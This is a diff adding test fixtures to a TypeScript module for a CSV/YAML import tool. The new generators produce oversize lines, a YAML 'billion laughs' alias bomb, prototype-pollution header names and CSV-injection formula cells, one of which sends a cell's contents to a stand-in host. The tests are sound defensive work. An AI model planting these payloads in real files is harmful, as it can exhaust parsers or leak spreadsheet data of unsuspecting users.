@@ -292,3 +292,41 @@ export function xlsxWithoutRefs(rows: readonly string[][]): Buffer {
   const xml = rows.map((cells) => `<row>${cells.map((c) => (c === "" ? "<c/>" : inline("", c))).join("")}</row>`).join("");
   return workbook(xml);
 }
+
+// ---------------------------------------------------------------------------------------------
+// Oversize lines
+
+/** A CSV whose second record is `mb` MB long: no line break at all, or an unclosed quote. */
+export function longLine(mb: number, quoted: boolean): Buffer {
+  const head = Buffer.from(`handle,title,sku,price\np-1,${quoted ? '"' : ""}`);
+  return Buffer.concat([head, Buffer.alloc(mb * 1024 * 1024, 0x78)]);
+}
+
+// ---------------------------------------------------------------------------------------------
+// Config files
+
+/** A syntactically valid config of about `mb` MB (one long attribute synonym list). */
+export function hugeConfig(mb: number): string {
+  const head = "stores:\n  shop:\n    platform: local\nattributes:\n  colour:\n    values:\n      red: [";
+  const item = '"rouge-xxxxxxxxxxxxxxxx", ';
+  return `${head}${item.repeat(Math.ceil((mb * 1024 * 1024) / item.length))}"r"]\n`;
+}
+
+// ---------------------------------------------------------------------------------------------
+// Classes handled before issue 13, kept in the suite so they stay handled
+
+/** Header names that would reach Object.prototype if rows were plain objects keyed by them. */
+export const PROTOTYPE_HEADERS = ["__proto__", "constructor", "prototype", "Constructor "];
+
+/** A YAML "billion laughs": nine levels of aliases, each ten times the one below. */
+export function yamlAliasBomb(): string {
+  const lines = ['a0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol","lol"]'];
+  for (let i = 1; i <= 9; i++) {
+    const refs = Array.from({ length: 10 }, () => `*a${i - 1}`).join(",");
+    lines.push(`a${i}: &a${i} [${refs}]`);
+  }
+  return `${lines.join("\n")}\nstores:\n  shop:\n    platform: local\n`;
+}
+
+/** Cells a spreadsheet program would run as formulas (OWASP CSV injection triggers). */
+export const FORMULA_TITLES = ['=HYPERLINK("http://x.test/?"&A1,"click")', "+1+1", "-2+3", "@SUM(1)", "\tTab", "\rCR"];
